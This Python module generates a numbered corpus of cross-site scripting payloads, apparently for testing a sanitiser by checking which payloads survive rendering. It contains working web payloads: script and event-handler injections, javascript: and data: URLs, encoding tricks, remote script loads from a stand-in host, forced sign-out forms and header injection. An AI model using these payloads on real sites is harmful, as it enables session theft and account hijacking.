"""A corpus of hostile words, made by families: what would run, how it gets out of where it stands, and how it is written.

Each sets `window.__x` to its own number when it runs. They are made here, not collected: a family that is missing is a line to add.
"""

import base64
from collections.abc import Iterable, Iterator, Sequence
from urllib.parse import quote

# A number takes the place of RUN when the corpus is made.
CODE = "window.__x=RUN"

ELEMENTS = [
    f"<script>{CODE}</script>",
    f"<script src=data:text/javascript,{CODE}></script>",
    f"<script type=module>{CODE}</script>",
    "<script src=//evil.example/RUN.js></script>",
    f"<img src=x onerror={CODE}>",
    f"<img src=x onerror={CODE}//",
    f"<img srcset=x onerror={CODE}>",
    f"<image src=x onerror={CODE}>",
    f"<picture><source srcset=x><img onerror={CODE}></picture>",
    f"<svg onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><script href=data:,{CODE} />",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{CODE}><a><text y=20>x</text></a></svg>",
    f"<svg><a xlink:href=javascript:{CODE}><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={CODE}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={CODE}></style></svg>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={CODE}>",
    f"<math><mi href=javascript:{CODE}>x</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CODE}></annotation-xml></math>",
    f"<body onload={CODE}>",
    f"<body onpageshow={CODE}>",
    f"<iframe src=javascript:{CODE}></iframe>",
    "<iframe srcdoc='<script>parent.__x=RUN</script>'></iframe>",
    f"<iframe onload={CODE}></iframe>",
    f"<object data=javascript:{CODE}></object>",
    f"<embed src=javascript:{CODE}>",
    f"<form action=javascript:{CODE}><input type=submit autofocus></form>",
    f"<button formaction=javascript:{CODE} autofocus>x</button>",
    f"<input onfocus={CODE} autofocus>",
    f"<input type=image src=x onerror={CODE}>",
    f"<select onfocus={CODE} autofocus></select>",
    f"<textarea onfocus={CODE} autofocus></textarea>",
    f"<p onfocus={CODE} autofocus tabindex=0 contenteditable>x",
    f"<details open ontoggle={CODE}>",
    f"<dialog open oncancel={CODE} onclose={CODE}>",
    f"<div popover onbeforetoggle={CODE}>",
    f"<video><source onerror={CODE}></video>",
    f"<video poster=x src=x onerror={CODE}></video>",
    f"<audio src=x onerror={CODE}>",
    f"<track onerror={CODE}>",
    f"<marquee onstart={CODE}>",
    f"<xss onanimationstart={CODE} style=animation-name:x>",
    f"<xss oncontentvisibilityautostatechange={CODE} style=content-visibility:auto>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/RUN'>",
    "<link rel=stylesheet href=//evil.example/RUN.css>",
    f"<link rel=preload as=script href=x onerror={CODE}>",
    "<link rel=import href=//evil.example/RUN>",
    "<base href=//evil.example/RUN/>",
    "<style>@import '//evil.example/RUN.css';</style>",
    f"<style>*{{background:url(javascript:{CODE})}}</style>",
    "<div style=background:url(//evil.example/RUN)>x</div>",
    f"<a href=javascript:{CODE} autofocus>x</a>",
    f"<area href=javascript:{CODE}>",
    f"<table background=javascript:{CODE}>",
    f"<template><script>{CODE}</script></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={CODE}></template></div>",
    f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"<xmp><p title='</xmp><svg onload={CODE}>'>",
    f"<plaintext><img src=x onerror={CODE}>",
    f"<frameset onload={CODE}>",
    f"<isindex action=javascript:{CODE} type=submit>",
    f"<keygen onfocus={CODE} autofocus>",
    # What our own pages and scripts listen to.
    f"<div hx-get=/maps hx-trigger=load hx-on:load={CODE}>x</div>",
    f"<div hx-on::after-init={CODE} hx-get=/ hx-trigger=load>x</div>",
    "<div hx-post=/sign-out hx-trigger=load>RUN</div>",
    "<form data-hx-post=/sign-out hx-trigger=load method=post action=/sign-out>RUN</form>",
    f"<hx-partial hx-target=body><script>{CODE}</script></hx-partial>",
    f"<flash-message data-announce='<img src=x onerror={CODE}>'>x</flash-message>",
    f"<x data-announce='<img src=x onerror={CODE}>' data-focus data-go-to>x</x>",
    "<a id=main name=body href=//evil.example/RUN>x</a>",
    "<form id=head name=documentElement><input name=children value=RUN></form>",
    "<img name=querySelector src=data:,RUN>",
]

# Ways out of where the words stand: elements whose content is text, attributes, comments, sections, scripts.
WAYS_OUT = [
    *('">', "'>", "`>", ">", "/>", "-->", "--!>", "]]>", "*/", "?>", "%>", "}}", '\\">', "\\'>"),
    *(f"</{name}>" for name in ("title", "textarea", "style", "script", "noscript", "template", "select", "svg", "math", "xmp", "iframe")),
    *("</option></select>", "</button>", "</a>", "</td></table>", "</code></pre>", '"></a>', "'/></svg>", "\n\n", "<!--", "<![CDATA["),
]
SHORT = [f"<img src=x onerror={CODE}>", f"<svg onload={CODE}>", f"<script>{CODE}</script>"]

EVENTS = [
    *(
        "mouseover",
        "focus",
        "pointerenter",
        "error",
        "load",
        "animationstart",
        "toggle",
        "input",
        "click",
        "beforematch",
        "scroll",
        "wheel",
    ),
    *("transitionend", "copy", "keydown", "auxclick", "hashchange", "message", "popstate", "resize", "beforeunload"),
]
QUOTES = ['" {} x="', "' {} x='", " {} ", '"{}//', "&quot; {} x=&quot;", "\" {} x='"]

SCHEMES = [
    *("javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript\t:"),
    *("&#106;avascript:", "&#x6A;avascript:", "java&Tab;script:", "javascript&colon;", "javascript&#58;", "java&#09;script:"),
    *("javascript://%0a", "javascript:/*--*/", "javascript:%0d%0a", "jav\u00adascript:", "\u2028javascript:", "\ufeffjavascript:"),
    *("vbscript:", "livescript:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "blob:javascript:", "about:blank#"),
    *("data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "data:application/xhtml+xml,", "data:text/javascript,", "data:,"),
    *(
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example/",
        "https:evil.example/",
        "%6a%61vascript:",
        "javascript%3a",
        "ｊavascript:",
    ),
]
LINKS = [
    *("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '[x]({} "a title")', "[![x]({})]({})", "[[{}]]", "[[x|{}]]", "{}"),
    *("<a href='{}'>x</a>", "[x][y]\n\n[y]: <{}>"),
]

MARKDOWN = [
    f"[[<img src=x onerror={CODE}>]]",
    f'[[" onmouseover="{CODE}]]',
    f"[[a|<svg onload={CODE}>]]",
    f"[[<svg onload={CODE}>|a]]",
    f"```<script>{CODE}</script>\n<script>{CODE}</script>\n```",
    f'```" onmouseover={CODE} x="\nx\n```',
    f"```html\n<script>{CODE}</script>\n```",
    f"```js\n</code></pre><script>{CODE}</script>\n```",
    f"`</code><img src=x onerror={CODE}>`",
    f"    <img src=x onerror={CODE}>",
    f"| <img src=x onerror={CODE}> |\n|---|\n| <svg onload={CODE}> |",
    f'| a |\n|:" onmouseover={CODE}|\n| b |',
    f"[^<script>]: <script>{CODE}</script>\n\nx[^<script>]",
    f'[^"onmouseover={CODE} ]: x\n\nx[^"onmouseover={CODE} ]',
    f'![x](x"onerror="{CODE})',
    f'![" onerror="{CODE}](x)',
    f'[x](x "\\" onmouseover=\\"{CODE}")',
    f"[x](x '\" onmouseover=\"{CODE}')",
    f"[<img src=x onerror={CODE}>](x)",
    f"**<svg onload={CODE}>**",
    f"# <img src=x onerror={CODE}> {{#id onclick={CODE}}}",
    f"> <script>\n> {CODE}\n> </script>",
    f"- <img src=x onerror={CODE}>\n  - <svg onload={CODE}>",
    f"<div>\n\n<script>{CODE}</script>\n\n</div>",
    f"<!-- --><img src=x onerror={CODE}> -->",
    f"<!--><img src=x onerror={CODE}>-->",
    f"<?php <img src=x onerror={CODE}> ?>",
    f"<![CDATA[<img src=x onerror={CODE}>]]>",
    f'http://example.org/"onmouseover="{CODE}',
    f"https://example.org/<img src=x onerror={CODE}>",
    f"www.example.org/'onmouseover='{CODE}",
    f'a"onmouseover="{CODE}"@example.org',
    f"~~<img src=x onerror={CODE}>~~ *<svg onload={CODE}>* __`<script>{CODE}</script>`__",
    f"- [ ] <input onfocus={CODE} autofocus>",
    f"&lt;img src=x onerror={CODE}&gt;",
    f"\\<img src=x onerror={CODE}\\>",
    f"Term\n: <img src=x onerror={CODE}>",
    f"$$</annotation><img src=x onerror={CODE}>$$",
    f":::{CODE}\n<img src=x onerror={CODE}>\n:::",
    f'<a href="x" [y](" onclick={CODE} ")>z</a>',
]

OTHERS = [
    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{{CODE}}} #{{{CODE}}} <%= {CODE} %>",
    f"{{{{constructor.constructor('{CODE}')()}}}}",
    f'";{CODE};//',
    f"';{CODE};//",
    f"`;{CODE};//",
    f"${{{CODE}}}",
    f"\\u003cscript\\u003e{CODE}\\u003c/script\\u003e",
    f"\u2028{CODE}\u2029",
    f'\\";{CODE};//',
    f"</script><script>{CODE}</script>",
    f"];{CODE};[",
    f"}};{CODE};{{",
    f"-->{CODE}",
    f"<!--<script>{CODE}//-->",
    f"+ADw-script+AD4-{CODE}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{CODE}\u00bc/script\u00be",
    f"expression({CODE})",
    f"x:expression({CODE})",
    f"</style><img src=x onerror={CODE}>",
    "}*{background:url(//evil.example/RUN)}",
    f"%3Cscript%3E{CODE}%3C/script%3E",
    f"%253Cscript%253E{CODE}%253C/script%253E",
    f'"}}]}}</script><script>{CODE}</script>',
    f"\r\nContent-Type: text/html\r\n\r\n<script>{CODE}</script>",
    "\r\nSet-Cookie: x=RUN",
    f"BEGIN:VEVENT\r\nSUMMARY:<script>{CODE}</script>",
    f"x\x00<script>{CODE}</script>",
    f"\u202e<img src=x onerror={CODE}>\u202c",
    f"__proto__[x]={CODE}",
    f"constructor.prototype.x={CODE}",
]


def disguised(element: str) -> Iterator[str]:
    """Other ways to write an element, of which a reader that is not careful makes the same."""
    yield (
        "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(element.partition("=")[0]))
        + element[len(element.partition("=")[0]) :]
    )
    yield element.replace(" ", "/")
    yield element.replace(" ", "\n")
    yield element.replace(" ", "\x0c")
    yield element.replace("<", "<<")
    yield element.replace("<", "&lt;").replace(">", "&gt;")
    yield element.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield element.replace("<", "&#60").replace(">", "&#62")
    yield element.replace("<", "&#x3c;").replace(">", "&#x3e;")
    yield element.replace("<", "\\x3c").replace(">", "\\x3e")
    yield element.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(">", "\N{FULLWIDTH GREATER-THAN SIGN}")
    yield element.replace("<", "\u2039").replace(">", "\u203a")
    yield element.replace("<", "<\x00").replace("on", "o\x00n")
    yield element.replace("<", "<\u200b")
    yield element.replace("on", "\u200bon")
    yield element.replace("s", "ſ")
    yield quote(element)
    yield element[:-1] if element.endswith(">") else element + "<"
    yield f"<scr<script>ipt>{element}</scr</script>ipt>"
    yield f"<a title='{element}'>x</a>"
    yield f'<img alt="{element}" src=x>'
    yield f"<p class={element}>x</p>"


def _urls() -> Iterator[str]:
    html = f"<script>{CODE}</script>"
    for scheme in SCHEMES:
        if scheme.endswith("base64,"):
            yield scheme + base64.b64encode(html.encode()).decode()
        else:
            yield scheme + (html if scheme.startswith("data:") and "javascript" not in scheme else CODE)


def _all() -> Iterator[str]:
    yield from ELEMENTS
    for out in WAYS_OUT:
        yield from (out + element for element in SHORT)
    for number, event in enumerate(EVENTS):
        yield from (QUOTES[(number + step) % len(QUOTES)].format(f"on{event}={CODE}") for step in range(4))
    for element in (*SHORT, f"<a href=javascript:{CODE}>x</a>", f"<details open ontoggle={CODE}>", f"<body onload={CODE}>"):
        yield from disguised(element)
    for number, url in enumerate(_urls()):
        chosen = [LINKS[(number + step) % len(LINKS)] for step in (0, 4, 7)]
        yield from (link.replace("{}", url) for link in [*chosen, "{}"])
    yield from MARKDOWN
    yield from OTHERS


def corpus() -> list[str]:
    """All of them, each once, each with a number of its own from 1."""
    return [payload.replace("RUN", str(number)) for number, payload in enumerate(dict.fromkeys(_all()), 1)]


def line(payload: str) -> str:
    """The payload as a field of one line keeps it."""
    return " ".join(payload.replace("\x00", "").split())


def packed(payloads: Iterable[str], limit: int) -> list[str]:
    """The payloads in as few lines of at most `limit` characters as hold them in order; one that is longer is left out."""
    lines = [""]
    for payload in map(line, payloads):
        if len(payload) > limit:
            continue
        if len(lines[-1]) + 1 + len(payload) > limit:
            lines.append("")
        lines[-1] = f"{lines[-1]} {payload}".strip()
    return [each for each in lines if each]


def numbers_in(text: str, payloads: Sequence[str]) -> int:
    """How many of the payloads stand in the text."""
    return sum(line(payload) in text for payload in payloads)
